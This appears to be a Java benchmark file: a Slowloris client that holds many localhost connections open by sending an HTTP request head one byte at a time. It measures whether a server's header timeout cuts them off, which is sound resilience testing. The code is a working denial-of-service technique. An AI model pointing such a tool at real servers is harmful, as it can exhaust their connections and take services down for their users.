package io.corral.benchmarks.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Slowloris against a server: clients that send a request head one byte at a time and never finish
 * it, for {@code benchmarks/scripts/slowloris.sh} to run beside a {@code wrk} load on {@code
 * /hello}. A client that the server cuts off (end of stream or reset) is replaced by a new one, so
 * that the attack keeps its size for the whole run.
 *
 * <pre>
 * java -cp benchmarks/target/compare.jar io.corral.benchmarks.attack.SlowlorisClient \
 *     --port 8000 --clients 50 --interval-ms 1000 --duration 20
 * </pre>
 *
 * <p>Prints how many slow connections were opened and cut off, and how long each lived from its
 * connect to the server's close (percentiles and the longest): with {@code header_timeout} set to
 * T, every one should be cut near T after its connect, whatever the server's threads are doing.
 */
public final class SlowlorisClient {

    private static final byte[] HEAD = ("GET /hello HTTP/1.1\r\nHost: slow\r\nUser-Agent: slowloris\r\nX-A: "
                    + "a".repeat(200) + "\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII);

    private SlowlorisClient() {}

    /** Runs the attack; see the class documentation. */
    public static void main(String[] args) throws Exception {
        int port = 8000;
        int clients = 50;
        long intervalMs = 1000;
        int seconds = 20;
        for (int i = 0; i + 1 < args.length; i += 2) {
            switch (args[i]) {
                case "--port" -> port = Integer.parseInt(args[i + 1]);
                case "--clients" -> clients = Integer.parseInt(args[i + 1]);
                case "--interval-ms" -> intervalMs = Long.parseLong(args[i + 1]);
                case "--duration" -> seconds = Integer.parseInt(args[i + 1]);
                default -> throw new IllegalArgumentException("unknown option " + args[i]);
            }
        }
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        long interval = TimeUnit.MILLISECONDS.toNanos(intervalMs);
        List<Slow> open = new ArrayList<>();
        List<Long> lifetimes = new ArrayList<>();
        int opened = 0;
        ByteBuffer scratch = ByteBuffer.allocate(4096);
        while (System.nanoTime() - end < 0) {
            while (open.size() < clients) {
                open.add(new Slow(port));
                opened++;
            }
            long now = System.nanoTime();
            for (int i = open.size() - 1; i >= 0; i--) {
                Slow s = open.get(i);
                if (s.step(now, interval, scratch)) {
                    lifetimes.add(now - s.connected);
                    s.channel.close();
                    open.remove(i);
                }
            }
            Thread.sleep(10); // pacing the dribble
        }
        for (Slow s : open) {
            s.channel.close();
        }
        long[] l = lifetimes.stream().mapToLong(Long::longValue).sorted().toArray();
        System.out.printf(
                "SLOWLORIS opened=%d cut=%d still_open=%d lifetime_p50_ms=%d p99_ms=%d max_ms=%d%n",
                opened,
                l.length,
                open.size(),
                pct(l, 0.5),
                pct(l, 0.99),
                l.length == 0 ? 0 : l[l.length - 1] / 1_000_000);
        if (l.length > 0) {
            System.out.println("lifetimes (ms, longest 5): "
                    + Arrays.toString(Arrays.stream(Arrays.copyOfRange(l, Math.max(0, l.length - 5), l.length))
                            .map(n -> n / 1_000_000)
                            .toArray()));
        }
    }

    private static long pct(long[] sorted, double p) {
        return sorted.length == 0
                ? 0
                : sorted[(int) Math.min(sorted.length - 1, Math.ceil(sorted.length * p) - 1)] / 1_000_000;
    }

    /** One slow client. */
    private static final class Slow {
        final SocketChannel channel;
        final long connected;
        long next;
        int sent;

        Slow(int port) throws IOException {
            channel = SocketChannel.open(new InetSocketAddress("127.0.0.1", port));
            connected = System.nanoTime();
            channel.configureBlocking(false);
            next = connected;
        }

        /** Sends a byte if one is due; true once the server has cut the connection off. */
        boolean step(long now, long interval, ByteBuffer scratch) {
            try {
                int n;
                while ((n = channel.read(scratch.clear())) > 0) {
                    // a 408, if the server answers one
                }
                if (n < 0) {
                    return true;
                }
                if (now - next >= 0 && sent < HEAD.length - 2) {
                    sent += channel.write(ByteBuffer.wrap(HEAD, sent, 1));
                    next = now + interval;
                }
                return false;
            } catch (IOException e) {
                return true;
            }
        }
    }
}
